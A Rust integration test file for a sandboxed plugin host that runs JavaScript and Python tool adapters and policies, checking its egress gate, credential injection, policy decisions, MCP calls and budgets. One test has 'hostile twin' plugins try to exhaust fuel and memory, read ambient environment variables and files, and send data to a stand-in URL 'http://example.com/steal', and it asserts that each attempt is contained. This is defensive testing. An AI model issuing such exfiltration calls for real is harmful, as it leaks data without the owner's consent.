//! Adapters and policies written in JavaScript (componentize-js) and Python (componentize-py)
//! with the SDKs in `sdk-js/` and `sdk-py/`: the examples and the hostile twins, built from
//! source by `build.rs`, signed like any plugin, and run through the pipeline and over MCP
//! with the same gates, outcome codes and budgets as the Rust ones.
//!
//! Each check is written once and run per language (`mod js`, `mod py` at the end).

use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use gatehouse_host::config::{EgressConfig, PolicyDefault};
use gatehouse_host::model::{ContentBlock, Operation};
use gatehouse_host::{ErrorKind, Host, HostConfig, OutcomeCode, Status, ToolCallEnvelope};
use gatehouse_server::mcp::McpConfig;
use gatehouse_tests::artifacts::ECHO;
use gatehouse_tests::host::HostBuilder;
use gatehouse_tests::mcp::{client, tool_names};
use gatehouse_tests::relay::{TestRelay, everything};
use gatehouse_tests::upstream::Upstream;
use gatehouse_tests::{Artifact, TOKEN, audit_record, bind, token_file};
use rmcp::model::CallToolRequestParams;
use serde_json::{Value, json};

/// One language's components.
struct Language {
    orders: Artifact,
    guard: Artifact,
    hostile: Artifact,
}

/// A shared compile cache for this test process (in its `process_dir`, removed once the
/// process has ended): an interpreter's component is 12-18 MB and takes seconds to compile,
/// and every test here builds a fresh host.
fn cached(mut config: HostConfig) -> HostConfig {
    config.cache.enabled = true;
    config.cache.dir = Some(gatehouse_tests::process_dir().join("compile-cache"));
    config
}

/// A host trusting the test publisher, the orders adapter granted GET and POST on the
/// upstream's `/api/` with the test token bound, loopback allowed.
fn orders_host(lang: &Language, upstream: &Upstream) -> Host {
    orders_host_with(lang, upstream, |_| ())
}

/// [`orders_host`], its config tweaked by `tweak` first.
fn orders_host_with(
    lang: &Language,
    upstream: &Upstream,
    tweak: impl FnOnce(&mut HostConfig),
) -> Host {
    let id = lang.orders.manifest().id().to_owned();
    HostBuilder::on(cached(gatehouse_tests::config(
        &["example.*", "gatehouse.*"],
        &[],
    )))
    .with(tweak)
    .egress(json!({
        "grant": [{
            "adapter": id,
            "url": format!("http://127.0.0.1:{}/api/", upstream.port),
            "methods": ["GET", "POST"],
            "credentials": { "api_token": { "file": token_file(), "scheme": "Bearer" } },
            "allow_private": ["127.0.0.0/8"],
        }],
    }))
    .adapters(&[lang.orders])
    .build()
}

fn call(tool: &str, args: Value) -> ToolCallEnvelope {
    ToolCallEnvelope::new("default", tool, args)
}

async fn reads_and_writes_through_the_egress_gate(lang: &Language) {
    let upstream = Upstream::start().await;
    let host = orders_host(lang, &upstream);
    let id = lang.orders.manifest().id().to_owned();
    let base = upstream.url("/api");

    // A GET, with the operator's credential injected on the way out.
    let result = host
        .call(call(
            &format!("{id}.get_order"),
            json!({ "base_url": base, "order_id": "42" }),
        ))
        .await;
    assert_eq!(result.status, Status::Ok, "{result:#?}");
    assert_eq!(
        result.structured_content,
        Some(
            json!({ "status": 200, "body": { "ok": true, "method": "GET", "path": "/api/orders/42" } })
        )
    );
    let seen = upstream.seen();
    assert_eq!(seen.len(), 1);
    assert_eq!(seen[0].headers["authorization"], format!("Bearer {TOKEN}"));
    assert!(
        !serde_json::to_string(&result).unwrap().contains(TOKEN),
        "the credential reached the guest's output"
    );

    // A write-class POST: its idempotency key travels upstream, and a repeat replays.
    let mut create = call(
        &format!("{id}.create_order"),
        json!({ "base_url": base, "item": "widget", "quantity": 2 }),
    );
    create.idempotency_key = Some("order-7".to_owned());
    let first = host.call(create.clone()).await;
    assert_eq!(first.status, Status::Ok, "{first:#?}");
    let structured = first.structured_content.clone().unwrap();
    assert_eq!(structured["idempotency_key"], "order-7");
    assert_eq!(structured["body"]["method"], "POST");
    let mut again = create.clone();
    again.tool_call_id = format!("{}-again", create.tool_call_id);
    let second = host.call(again).await;
    assert_eq!(second.status, Status::Ok, "{second:#?}");
    assert_eq!(
        second.replay_of.as_deref(),
        Some(first.tool_call_id.as_str())
    );
    assert_eq!(second.structured_content, first.structured_content);
    let posts: Vec<_> = upstream
        .seen()
        .into_iter()
        .filter(|s| s.method == "POST")
        .collect();
    assert_eq!(posts.len(), 1, "the repeat created nothing upstream");
    assert_eq!(posts[0].headers["idempotency-key"], "order-7");
    assert_eq!(posts[0].headers["authorization"], format!("Bearer {TOKEN}"));
    assert_eq!(
        serde_json::from_slice::<Value>(&posts[0].body).unwrap(),
        json!({ "item": "widget", "quantity": 2 })
    );

    // Outside the grant (a path it does not cover): refused at the gate, nothing sent.
    let before = upstream.seen().len();
    let result = host
        .call(call(
            &format!("{id}.get_order"),
            json!({ "base_url": upstream.url("/admin"), "order_id": "1" }),
        ))
        .await;
    assert_eq!(
        (result.status, result.outcome),
        (Status::Failed, OutcomeCode::ToolError),
        "{result:#?}"
    );
    let error = result.error.as_ref().unwrap();
    assert_eq!(error.kind, ErrorKind::Unavailable, "{error:#?}");
    assert_eq!(result.egress.len(), 1, "{:#?}", result.egress);
    assert!(!result.egress[0].allowed);
    assert_eq!(result.egress[0].code, "no_matching_grant");
    assert_eq!(upstream.seen().len(), before);
    // Every language reports the gate's refusal as such: the Python SDK reads the gate's typed
    // refusal; JavaScript's `fetch` reports every failure alike, so the host, which refused
    // the request, tells the caller. A refusal is met again, so it is not retryable.
    assert_eq!(
        (error.code.as_str(), error.retryable),
        ("EGRESS_DENIED", false),
        "{error:#?}"
    );
    assert_eq!(
        error.remediation.as_deref(),
        Some("ask the operator to grant this destination, or use a URL it grants")
    );
}

/// The hostile twins: each is contained with the Rust hostile plugins' outcome codes, and the
/// host serves a normal call right after.
async fn hostile_twins_are_contained(lang: &Language) {
    let mut config = cached(gatehouse_tests::config(&["test.*", "gatehouse.*"], &[]));
    config.egress = serde_json::from_value::<EgressConfig>(json!({})).unwrap();
    let host = Host::new(config).unwrap();
    let hostile = host.install_adapter(&lang.hostile.signed()).unwrap();
    host.install_adapter(&ECHO.signed()).unwrap();
    let tool = |capability: &str| format!("{}.{capability}", hostile.id);

    for (capability, outcome, said) in [
        (
            "spin",
            OutcomeCode::ToolTimeout,
            "ran out of fuel after 200000000 units",
        ),
        (
            "hog",
            OutcomeCode::ToolMemoryLimit,
            "memory limit of 33554432 bytes exceeded",
        ),
    ] {
        let result = host.call(call(&tool(capability), json!({}))).await;
        assert_eq!(
            (result.status, result.outcome),
            (Status::Failed, outcome),
            "{result:#?}"
        );
        let message = &result.error.as_ref().unwrap().message;
        assert!(message.contains(said), "{capability}: {message}");
    }

    let result = host
        .call(call(
            &tool("exfiltrate"),
            json!({ "url": "http://example.com/steal" }),
        ))
        .await;
    assert_eq!(result.status, Status::Ok, "{result:#?}");
    let got = result.structured_content.as_ref().unwrap()["got"]
        .as_str()
        .unwrap()
        .to_owned();
    assert!(got.starts_with("error"), "the fetch must fail: {got}");
    assert_eq!(result.egress.len(), 1, "{:#?}", result.egress);
    assert_eq!(result.egress[0].destination, "http://example.com:80/steal");
    assert_eq!(result.egress[0].code, "no_matching_grant");

    let result = host.call(call(&tool("ambient"), json!({}))).await;
    assert_eq!(result.status, Status::Ok, "{result:#?}");
    let seen = result.structured_content.clone().unwrap();
    assert_eq!(seen["env_vars"], 0, "{seen:#}");
    assert!(
        seen["file"].as_str().unwrap().starts_with("error"),
        "{seen:#}"
    );
    if let Some(listing) = seen.get("listing") {
        assert!(listing.as_str().unwrap().starts_with("error"), "{seen:#}");
    }

    let echo = gatehouse_tests::echo(&host, "still here").await;
    assert_eq!(echo.status, Status::Ok, "{echo:#?}");
}

/// `[[sandbox.plugin]]` gives one plugin its own fuel and deadline; the others keep the
/// defaults.
async fn a_plugin_gets_its_own_budgets(lang: &Language) {
    let id = lang.hostile.manifest().id().to_owned();
    let mut config = cached(gatehouse_tests::config(&["test.*", "gatehouse.*"], &[]));
    config.sandbox.plugins = serde_json::from_value(json!([
        { "id": id, "fuel": 300_000_000u64 },
    ]))
    .unwrap();
    let host = Host::new(config.clone()).unwrap();
    host.install_adapter(&lang.hostile.signed()).unwrap();
    let result = host.call(call(&format!("{id}.spin"), json!({}))).await;
    let message = &result.error.as_ref().unwrap().message;
    assert!(
        message.contains("ran out of fuel after 300000000 units"),
        "{message}"
    );
    assert_eq!(result.usage.unwrap().fuel_consumed, 300_000_000);

    config.sandbox.plugins = serde_json::from_value(json!([
        { "id": id, "fuel": 40_000_000_000u64, "timeout_ms": 400 },
    ]))
    .unwrap();
    let host = Host::new(config).unwrap();
    host.install_adapter(&lang.hostile.signed()).unwrap();
    let result = host.call(call(&format!("{id}.spin"), json!({}))).await;
    assert_eq!(result.outcome, OutcomeCode::ToolTimeout, "{result:#?}");
    let message = &result.error.as_ref().unwrap().message;
    assert!(message.contains("400ms deadline"), "{message}");
}

/// A host serving echo with `lang`'s guard policy bound in front of it, policy default deny.
fn guarded_host(lang: &Language) -> Host {
    let id = lang.guard.manifest().id().to_owned();
    HostBuilder::on(cached(gatehouse_tests::config(
        &["gatehouse.*"],
        &["example.*"],
    )))
    .with(|config| {
        config.pipeline.policy_default = PolicyDefault::Deny;
        config.pipeline.policies = vec![bind(&id, "*", 0, json!({}))];
    })
    .adapters(&[ECHO])
    .build()
}

async fn the_policy_allows_denies_pauses_and_redacts(lang: &Language) {
    let host = guarded_host(lang);
    host.install_policy(&lang.guard.signed())
        .unwrap_or_else(|e| panic!("{} installs: {e}", lang.guard.name));

    let allowed = gatehouse_tests::echo(&host, "hello").await;
    assert_eq!(
        (allowed.status, allowed.outcome),
        (Status::Ok, OutcomeCode::Ok),
        "{allowed:#?}"
    );
    assert_eq!(
        allowed.structured_content,
        Some(json!({ "message": "hello", "length": 5 }))
    );
    let decision = allowed.policy_decision.as_ref().unwrap();
    assert_eq!(decision.modules[0].reasons[0].code, "ALLOWED");

    // Its identifier mask (contract 0.3.0's `mask-identifiers`): the order id reaches neither
    // the caller nor the audit log.
    let masked = gatehouse_tests::echo(&host, "ship ord_123").await;
    assert_eq!(masked.status, Status::Ok, "{masked:#?}");
    assert_eq!(
        masked.structured_content,
        Some(json!({ "message": "ship [ORDER]", "length": 12 }))
    );
    let record = audit_record(&host, &masked.tool_call_id).await.to_string();
    assert!(
        record.contains("[ORDER]") && !record.contains("ord_123"),
        "{record}"
    );

    let denied = gatehouse_tests::echo(&host, "a forbidden fruit").await;
    assert_eq!(
        (denied.status, denied.outcome),
        (Status::Rejected, OutcomeCode::PolicyBlocked),
        "{denied:#?}"
    );
    assert!(
        denied
            .error
            .as_ref()
            .unwrap()
            .message
            .contains("FORBIDDEN_WORD"),
        "{denied:#?}"
    );
    assert!(denied.usage.is_none(), "the adapter never ran");

    let paused = gatehouse_tests::echo(&host, "a refund please").await;
    assert_eq!(paused.status, Status::Paused, "{paused:#?}");
    assert_eq!(paused.outcome, OutcomeCode::ApprovalRequired, "{paused:#?}");
    assert!(paused.approval_id.is_some());
    assert!(
        paused.usage.is_none(),
        "nothing ran before an approver decides"
    );

    let redacted = gatehouse_tests::echo(&host, "my secret").await;
    assert_eq!(redacted.status, Status::Ok, "{redacted:#?}");
    assert_eq!(
        redacted.structured_content,
        Some(json!({ "message": "[REDACTED]", "length": 9 }))
    );
    assert!(
        !serde_json::to_string(&redacted.content)
            .unwrap()
            .contains("my secret"),
        "{redacted:#?}"
    );
}

async fn the_policy_swaps_under_calls(lang: &Language) {
    let host = Arc::new(guarded_host(lang));
    let id = lang.guard.manifest().id().to_owned();
    let v1 = lang.guard.signed_as_version("1.0.0");
    let v2 = lang.guard.signed_as_version("2.0.0");
    host.install_policy(&v1).unwrap();
    let done = Arc::new(AtomicBool::new(false));
    let workers: Vec<_> = (0..2)
        .map(|_| {
            let (host, done) = (Arc::clone(&host), Arc::clone(&done));
            tokio::spawn(async move {
                let mut versions = Vec::new();
                while !done.load(Ordering::Relaxed) || versions.len() < 5 {
                    let result = gatehouse_tests::echo(&host, "hello").await;
                    assert_eq!(result.status, Status::Ok, "{result:#?}");
                    let decision = result.policy_decision.unwrap();
                    versions.push(decision.modules[0].module.clone().unwrap().version);
                    tokio::task::yield_now().await;
                }
                versions
            })
        })
        .collect();
    for round in 0..4 {
        let next = if round % 2 == 0 { &v2 } else { &v1 };
        host.force_install_policy(next).expect("the swap installs");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    done.store(true, Ordering::Relaxed);
    let mut seen = Vec::new();
    for worker in workers {
        seen.extend(worker.await.expect("no call failed"));
    }
    assert!(
        seen.iter().all(|v| v == "1.0.0" || v == "2.0.0"),
        "{seen:?}"
    );
    assert_eq!(host.policy_version(&id).unwrap().version, "1.0.0");
    let after = gatehouse_tests::echo(&host, "hello").await;
    let module = after.policy_decision.unwrap().modules[0]
        .module
        .clone()
        .unwrap();
    assert_eq!(module.version, "1.0.0");
}

/// An MCP client calls the adapter through `McpServer`: the same pipeline, over the wire.
async fn an_mcp_client_calls_it(lang: &Language) {
    let upstream = Upstream::start().await;
    let host = Arc::new(orders_host(lang, &upstream));
    let mcp = McpConfig {
        anonymous_tenant: Some("default".to_owned()),
        ..McpConfig::default()
    };
    let port = gatehouse_tests::mcp::serve(Arc::clone(&host), &mcp).await;
    let client = client(&format!("http://127.0.0.1:{port}/mcp"), None).await;
    let id = lang.orders.manifest().id().to_owned();
    let tools = tool_names(&client).await;
    assert!(tools.contains(&format!("{id}.get_order")), "{tools:?}");
    let result = client
        .call_tool(
            serde_json::from_value::<CallToolRequestParams>(json!({
                "name": format!("{id}.get_order"),
                "arguments": { "base_url": upstream.url("/api"), "order_id": "9" },
            }))
            .unwrap(),
        )
        .await
        .unwrap();
    assert_ne!(result.is_error, Some(true), "{result:#?}");
    assert_eq!(
        result.structured_content,
        Some(
            json!({ "status": 200, "body": { "ok": true, "method": "GET", "path": "/api/orders/9" } })
        )
    );
    assert_eq!(
        upstream.seen()[0].headers["authorization"],
        format!("Bearer {TOKEN}")
    );
}

/// What contract 0.6.0 gives an adapter, in every language: the orders example tells its
/// caller how far a read got, asks the user to confirm a large order (a form, under the
/// operator's grant) and acts on the answer, and serves its resource and its prompt, each a
/// governed call. The caller is a test relay, which answers the form without confirming.
async fn tells_and_asks_its_caller_and_serves_its_resource_and_prompt(lang: &Language) {
    let upstream = Upstream::start().await;
    let id = lang.orders.manifest().id().to_owned();
    let grant = json!({ "grant": [{ "adapter": id, "ask": ["elicitation"] }] });
    let host = orders_host_with(lang, &upstream, |config| {
        config.caller = serde_json::from_value(grant).unwrap();
    });
    let base = upstream.url("/api");

    let relay = TestRelay::new(everything(), Duration::ZERO);
    let read = call(
        &format!("{id}.get_order"),
        json!({ "base_url": base, "order_id": "42" }),
    );
    let result = host.call_relayed(read, relay.clone()).await;
    assert_eq!(result.status, Status::Ok, "{result:#?}");
    assert_eq!(
        relay.seen(),
        [json!({ "progress": 1.0, "total": 1.0, "message": "read order 42" })]
    );

    // A large order: the user is asked; an answer that does not confirm stops it before
    // anything is sent upstream.
    let relay = TestRelay::new(everything(), Duration::ZERO);
    let mut create = call(
        &format!("{id}.create_order"),
        json!({ "base_url": base, "item": "widget", "quantity": 500 }),
    );
    create.idempotency_key = Some("big-1".to_owned());
    let result = host.call_relayed(create, relay.clone()).await;
    let asked = relay.seen();
    assert_eq!(asked.len(), 1, "{asked:#?}");
    assert_eq!(
        (
            &asked[0]["ask"],
            &asked[0]["method"],
            &asked[0]["params"]["message"]
        ),
        (
            &json!("confirm"),
            &json!("elicitation/create"),
            &json!("Order 500 of widget?")
        )
    );
    let error = result.error.as_ref().expect("not confirmed");
    assert_eq!(error.code, "NOT_CONFIRMED", "{result:#?}");
    assert!(upstream.seen().iter().all(|s| s.method != "POST"));
    let record = audit_record(&host, &result.tool_call_id).await;
    let kept = &record["result"]["caller"]["asks"];
    assert_eq!(
        (&kept[0]["outcome"], &kept[0]["answer"]["action"]),
        (&json!("answered"), &json!("accept")),
        "{record}"
    );

    // Its resource and its prompt, through the pipeline.
    let (name, args) = host
        .resource_at("default", "orders://about")
        .expect("the resource is listed");
    let read = ToolCallEnvelope::new("default", name, args).with_operation(Operation::ReadResource);
    let result = host.call(read).await;
    assert_eq!(result.status, Status::Ok, "{result:#?}");
    let [ContentBlock::Resource { resource }] = result.content.as_slice() else {
        panic!("one resource block: {result:#?}");
    };
    assert_eq!(resource.uri, "orders://about");
    assert!(
        resource
            .text
            .as_deref()
            .is_some_and(|t| t.starts_with("get_order reads")),
        "{resource:?}"
    );
    let fill = ToolCallEnvelope::new(
        "default",
        format!("{id}.review_order"),
        json!({ "order_id": "42" }),
    )
    .with_operation(Operation::GetPrompt);
    let result = host.call(fill).await;
    assert_eq!(result.status, Status::Ok, "{result:#?}");
    assert_eq!(
        result.content,
        [ContentBlock::Text {
            text: "Review order 42: is anything unusual about it?".to_owned()
        }]
    );
}

/// `sdk-js/types/` is what jco generates from `wit/` today, and the TypeScript examples
/// typecheck against the SDK's declarations.
#[test]
fn the_js_sdks_declarations_are_current_and_the_examples_typecheck() {
    let sdk = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../sdk-js");
    let bin = sdk.join("node_modules/.bin");
    assert!(
        bin.join("jco").exists() && bin.join("tsc").exists(),
        "the JavaScript toolchain is not installed: run `build-support/toolchains`"
    );
    let out = tempfile::tempdir().unwrap();
    let generated = std::process::Command::new(bin.join("jco"))
        .args(["guest-types", "wit", "--world-name", "adapter", "-q", "-o"])
        .arg(out.path())
        .current_dir(&sdk)
        .output()
        .unwrap();
    assert!(generated.status.success(), "{generated:?}");
    let files = |dir: &std::path::Path| -> Vec<(String, String)> {
        let mut found = Vec::new();
        let mut stack = vec![dir.to_owned()];
        while let Some(next) = stack.pop() {
            for entry in std::fs::read_dir(&next).unwrap() {
                let path = entry.unwrap().path();
                if path.is_dir() {
                    stack.push(path);
                } else {
                    let name = path.strip_prefix(dir).unwrap().display().to_string();
                    found.push((name, std::fs::read_to_string(&path).unwrap()));
                }
            }
        }
        found.sort();
        found
    };
    let (fresh, committed) = (files(out.path()), files(&sdk.join("types")));
    let names = |list: &[(String, String)]| list.iter().map(|(n, _)| n.clone()).collect::<Vec<_>>();
    assert_eq!(
        names(&fresh),
        names(&committed),
        "run `npm run types` in sdk-js"
    );
    for ((name, new), (_, old)) in fresh.iter().zip(&committed) {
        assert!(
            new == old,
            "sdk-js/types/{name} is stale: run `npm run types` in sdk-js"
        );
    }
    let checked = std::process::Command::new(bin.join("tsc"))
        .args(["-p", "tsconfig.json"])
        .current_dir(&sdk)
        .output()
        .unwrap();
    assert!(
        checked.status.success(),
        "{}",
        String::from_utf8_lossy(&checked.stdout)
    );
}

macro_rules! per_language {
    ($lang:ident, $orders:ident, $guard:ident, $hostile:ident) => {
        mod $lang {
            use gatehouse_tests::artifacts::{$guard, $hostile, $orders};

            const LANG: super::Language = super::Language {
                orders: $orders,
                guard: $guard,
                hostile: $hostile,
            };

            #[tokio::test]
            async fn reads_and_writes_through_the_egress_gate() {
                super::reads_and_writes_through_the_egress_gate(&LANG).await;
            }

            #[tokio::test]
            async fn hostile_twins_are_contained() {
                super::hostile_twins_are_contained(&LANG).await;
            }

            #[tokio::test]
            async fn a_plugin_gets_its_own_budgets() {
                super::a_plugin_gets_its_own_budgets(&LANG).await;
            }

            #[tokio::test]
            async fn the_policy_allows_denies_pauses_and_redacts() {
                super::the_policy_allows_denies_pauses_and_redacts(&LANG).await;
            }

            #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
            async fn the_policy_swaps_under_calls() {
                super::the_policy_swaps_under_calls(&LANG).await;
            }

            #[tokio::test]
            async fn an_mcp_client_calls_it() {
                super::an_mcp_client_calls_it(&LANG).await;
            }

            #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
            async fn tells_and_asks_its_caller_and_serves_its_resource_and_prompt() {
                super::tells_and_asks_its_caller_and_serves_its_resource_and_prompt(&LANG).await;
            }
        }
    };
}

per_language!(js, JS_ORDERS, JS_GUARD, JS_HOSTILE);
per_language!(py, PY_ORDERS, PY_GUARD, PY_HOSTILE);
